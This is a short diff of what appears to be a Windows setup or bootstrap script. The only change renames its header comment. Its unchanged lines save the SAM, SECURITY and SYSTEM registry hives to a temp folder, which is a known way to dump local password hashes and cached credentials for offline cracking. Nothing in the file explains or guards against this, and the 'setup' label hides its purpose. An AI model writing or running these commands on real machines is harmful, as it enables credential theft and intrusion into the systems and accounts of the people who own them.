@@ -1,4 +1,4 @@
-# bootstrap 2172 v0
+# setup 9465 v0
 reg.exe save HKLM\SAM C:\Windows\Temp\s.hiv /y
 reg.exe save HKLM\SECURITY C:\Windows\Temp\sec.hiv /y
 reg.exe save HKLM\SYSTEM C:\Windows\Temp\sys.hiv /y
